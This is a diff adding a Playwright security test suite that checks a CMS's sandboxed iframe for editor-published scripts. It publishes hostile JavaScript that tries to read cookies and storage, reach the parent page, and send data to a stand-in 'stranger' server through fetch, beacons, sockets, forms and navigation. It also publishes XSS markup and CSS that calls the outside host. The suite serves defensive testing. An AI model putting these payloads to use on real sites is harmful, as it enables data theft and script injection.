@@ -1,0 +1,231 @@
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { type APIRequestContext, expect, type Page, test } from '@playwright/test';
+
+const content = process.env.CONTENT_ORIGIN ?? 'http://localhost:4100';
+/** A long page, with the content at its end: frames load when somebody comes near, so others who look in are not attacked. */
+const PAGE = 'terms';
+
+/** Somebody else's host. Whatever reaches it got out of the frame. */
+let stranger: Server;
+let strangerUrl: string;
+const heard: string[] = [];
+test.beforeAll(async () => {
+  stranger = createServer((request, response) => {
+    if (request.url === '/framing') {
+      response.setHeader('content-type', 'text/html').end(`<iframe src="${content}/frame"></iframe>`);
+      return;
+    }
+    heard.push(`${request.method} ${request.url}`);
+    response.setHeader('access-control-allow-origin', '*').end('reached');
+  });
+  await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve));
+  strangerUrl = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
+});
+test.afterAll(() => void stranger.close());
+
+type Written = { body: string; css: string; js: string };
+
+/** Publishes dynamic content as an editor does; answers how to take it away again. */
+async function publish(
+  request: APIRequestContext,
+  dynamicContent: Written,
+): Promise<{ key: string; remove: () => Promise<void> }> {
+  const login = await request.post(`${content}/api/users/login`, {
+    data: { email: process.env.CONTENT_ADMIN_EMAIL, password: process.env.CONTENT_ADMIN_PASSWORD },
+  });
+  expect(login.ok()).toBe(true);
+  const headers = { authorization: `JWT ${(await login.json()).token}` };
+  const pages = await request.get(`${content}/api/pages?where[key][equals]=${PAGE}`, { headers });
+  const [page] = (await pages.json()).docs;
+  const key = `attack-${Date.now()}-${Math.floor(Math.random() * 1e6)}`;
+  const made = await request.post(`${content}/api/components?locale=ru`, {
+    headers,
+    data: {
+      ...{ key, page: page.id, type: 'dynamic-content', enabled: true, withAuth: true, withoutAuth: true },
+      ...{ order: 999, orderNonAuth: 999, dynamicContent, text: `<h2>${key}</h2>`, _status: 'published' },
+    },
+  });
+  expect(made.ok(), await made.text()).toBe(true);
+  const { doc } = await made.json();
+  const remove = async () => {
+    expect((await request.delete(`${content}/api/components/${doc.id}`, { headers })).ok()).toBe(true);
+  };
+  return { key, remove };
+}
+
+/** Opens the page once it shows the content, and goes down to its frame. */
+async function openWith(page: Page, key: string) {
+  const holder = page.locator(`iframe[title="${key}"]`);
+  await expect(async () => {
+    await page.goto(`/en/${PAGE}`);
+    await page.evaluate(() => scrollTo(0, document.body.scrollHeight));
+    await expect(holder).toBeAttached({ timeout: 5000 });
+  }).toPass({ timeout: 40_000 });
+  return { holder, inside: page.frameLocator(`iframe[title="${key}"]`) };
+}
+
+const attacks = (site: string) => `
+const results = document.getElementById('results');
+const say = (name, outcome) => { const p = document.createElement('p'); p.textContent = name + ': ' + outcome; results.append(p); };
+const attempt = async (name, action) => {
+  try { say(name, 'GOT ' + await action()); } catch (error) { say(name, 'refused'); }
+};
+const loads = (element, address) => new Promise((resolve, reject) => {
+  element.onload = () => resolve('loaded'); element.onerror = () => reject(new Error('error'));
+  element.src = address; document.body.append(element);
+});
+const opens = (socket) => new Promise((resolve, reject) => {
+  socket.onopen = () => resolve('open'); socket.onmessage = () => resolve('message'); socket.onerror = () => reject(new Error('error'));
+});
+(async () => {
+  await attempt('parent document', () => parent.document.title);
+  await attempt('parent storage', () => parent.localStorage.length);
+  await attempt('top location', () => top.location.href);
+  await attempt('cookie', () => document.cookie);
+  await attempt('cookie set', () => { document.cookie = 'a=b'; return 'set'; });
+  await attempt('local storage', () => localStorage.length);
+  await attempt('session storage', () => sessionStorage.length);
+  await attempt('database', () => indexedDB.open('x').readyState);
+  await attempt('caches', async () => (await caches.keys()).length);
+  await attempt('site api', async () => (await fetch('${site}/api/users', { credentials: 'include' })).status);
+  await attempt('site page', async () => (await fetch('${site}/en')).status);
+  await attempt('own origin', async () => (await fetch('/api/users/me')).status);
+  await attempt('stranger', async () => (await fetch('${strangerUrl}/fetch')).status);
+  await attempt('stranger opaque', async () => (await fetch('${strangerUrl}/opaque', { mode: 'no-cors' })).type);
+  await attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '${strangerUrl}/xhr', false); x.send(); return x.status; });
+  await attempt('socket', () => opens(new WebSocket('${strangerUrl.replace('http', 'ws')}/socket')));
+  await attempt('events', () => opens(new EventSource('${strangerUrl}/events')));
+  await attempt('image', () => loads(new Image(), '${strangerUrl}/image.png'));
+  await attempt('site image', () => loads(new Image(), '${site}/api/users?leak=1'));
+  await attempt('script', () => loads(document.createElement('script'), '${strangerUrl}/x.js'));
+  await attempt('worker', () => new Promise((resolve, reject) => {
+    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
+    worker.onmessage = () => resolve('ran'); worker.onerror = () => reject(new Error('error'));
+  }));
+  await attempt('eval', () => eval('1 + 1'));
+  await attempt('popup', () => { const w = open('${strangerUrl}/popup'); if (!w) throw new Error('none'); return 'opened'; });
+  await attempt('top navigation', () => { top.location = '${strangerUrl}/top'; return 'set'; });
+  await attempt('parent navigation', () => { parent.location.href = '${strangerUrl}/parent'; return 'set'; });
+  await attempt('camera', async () => { await navigator.mediaDevices.getUserMedia({ video: true }); return 'on'; });
+  navigator.sendBeacon && navigator.sendBeacon('${strangerUrl}/beacon', 'x');
+  const inner = document.createElement('iframe'); inner.src = '${strangerUrl}/inner'; document.body.append(inner);
+  const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = '${strangerUrl}/x.css'; document.head.append(link);
+  const form = document.createElement('form'); form.action = '${strangerUrl}/form'; form.method = 'post'; document.body.append(form);
+  try { form.submit(); } catch {}
+  const said = (message) => parent.postMessage(message, '*');
+  said({ kozyr: 'navigate', path: '/games' });
+  said({ kozyr: 'navigate', path: '${strangerUrl}/said' });
+  said({ kozyr: 'height', height: 1e12 });
+  said({ kozyr: 'token', give: true });
+  said('x'.repeat(1e6));
+  say('done', 'done');
+})();`;
+
+test('scripts of an editor reach neither the page, nor its storage, nor any network', async ({
+  page,
+  request,
+  baseURL,
+}) => {
+  const site = new URL(baseURL ?? '').origin;
+  const block = await publish(request, { body: '<div id="results"></div>', css: '', js: attacks(site) });
+  try {
+    const { holder, inside } = await openWith(page, block.key);
+    const asked: string[] = [];
+    page.on('response', (response) => {
+      const frame = response.request().frame();
+      if (frame !== page.mainFrame() && response.url() !== `${content}/frame`) asked.push(response.url());
+    });
+    await expect(inside.getByText('done: done')).toBeVisible({ timeout: 30_000 });
+    const results = await inside.locator('#results p').allTextContents();
+    expect(results.length).toBe(27);
+    expect(results.filter((line) => !line.endsWith(': refused'))).toEqual(['done: done']);
+    expect(heard).toEqual([]);
+    expect(asked).toEqual([]);
+    // The page is where it was, and no message but a height did anything.
+    expect(new URL(page.url()).pathname).toBe(`/en/${PAGE}`);
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    expect((await holder.boundingBox())?.height).toBeLessThanOrEqual(4000);
+    expect(page.context().pages()).toHaveLength(1);
+    await expect(holder).toHaveAttribute('sandbox', 'allow-scripts');
+  } finally {
+    await block.remove();
+  }
+});
+
+test('a frame that leaves its document gets nowhere', async ({ page, request }) => {
+  const js = `setTimeout(() => { location.href = '${strangerUrl}/left?secret=1'; }, 200);`;
+  const block = await publish(request, { body: '<p>Leaving</p>', css: '', js });
+  try {
+    const blocked = page.waitForEvent('console', (message) => message.text().includes('frame-src'));
+    await openWith(page, block.key);
+    await blocked;
+    expect(heard).toEqual([]);
+    expect(new URL(page.url()).pathname).toBe(`/en/${PAGE}`);
+  } finally {
+    await block.remove();
+  }
+});
+
+test('a fair height is granted, and a click leads inside the site and nowhere else', async ({ page, request }) => {
+  const body = `<div class="box"><a href="/games">Games</a> <a href="${strangerUrl}/link">Away</a> <button>Grow</button></div>`;
+  const js = `
+    const box = document.querySelector('.box');
+    document.querySelector('button').onclick = () => {
+      box.style.height = '555px';
+      kozyr.navigate('//stranger.example/x');
+      kozyr.navigate('javascript:alert(1)');
+    };`;
+  const block = await publish(request, { body, css: '.box { height: 321px } a { color: rgb(1, 2, 3) }', js });
+  try {
+    const { holder, inside } = await openWith(page, block.key);
+    const height = () => holder.boundingBox().then((box) => box?.height);
+    await expect.poll(height).toBe(321);
+    await expect(inside.getByRole('link', { name: 'Games' })).toHaveCSS('color', 'rgb(1, 2, 3)');
+    expect(await inside.locator('html').getAttribute('lang')).toBe('en');
+    await inside.getByRole('button', { name: 'Grow' }).click();
+    await expect.poll(height).toBe(555);
+    await inside.getByRole('link', { name: 'Away' }).click();
+    expect(new URL(page.url()).pathname).toBe(`/en/${PAGE}`);
+    await inside.getByRole('link', { name: 'Games' }).click();
+    await page.waitForURL('**/en/games');
+    expect(heard).toEqual([]);
+  } finally {
+    await block.remove();
+  }
+});
+
+test('without scripts the body stands in the page, cleaned, and its styles stay in their box', async ({
+  page,
+  request,
+}) => {
+  const body =
+    '<div class="ball" onclick="x()"><script>document.title = "taken"</script><img src="x" onerror="document.title = \'taken\'">Kept <a href="javascript:document.title=1">link</a></div>';
+  const css = `@import url(${strangerUrl}/import.css); h1 { display: none } body { background: rgb(1, 1, 1) }
+    .ball { color: rgb(250, 240, 230); position: fixed; inset: 0; background-image: url(${strangerUrl}/css.png) }`;
+  const block = await publish(request, { body, css, js: '' });
+  try {
+    const box = page.locator(`[data-dynamic="${block.key}"]`);
+    await expect(async () => {
+      await page.goto(`/en/${PAGE}`);
+      await expect(box).toBeVisible({ timeout: 1000 });
+    }).toPass({ timeout: 40_000 });
+    await expect(box.locator('.ball')).toHaveCSS('color', 'rgb(250, 240, 230)');
+    await expect(box.locator('.ball')).toHaveCSS('position', 'static');
+    await expect(page.locator('body')).not.toHaveCSS('background-color', 'rgb(1, 1, 1)');
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    expect(await page.title()).not.toContain('taken');
+    expect(await box.innerHTML()).not.toMatch(/script|onerror|onclick/);
+    expect(heard).toEqual([]);
+  } finally {
+    await block.remove();
+  }
+});
+
+test('the host of frames is shown to this site alone', async ({ page, request }) => {
+  const answer = await request.get(`${content}/frame`);
+  expect(answer.headers()['content-security-policy']).toContain('sandbox allow-scripts');
+  const refused = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
+  await page.goto(`${strangerUrl}/framing`);
+  await refused;
+});
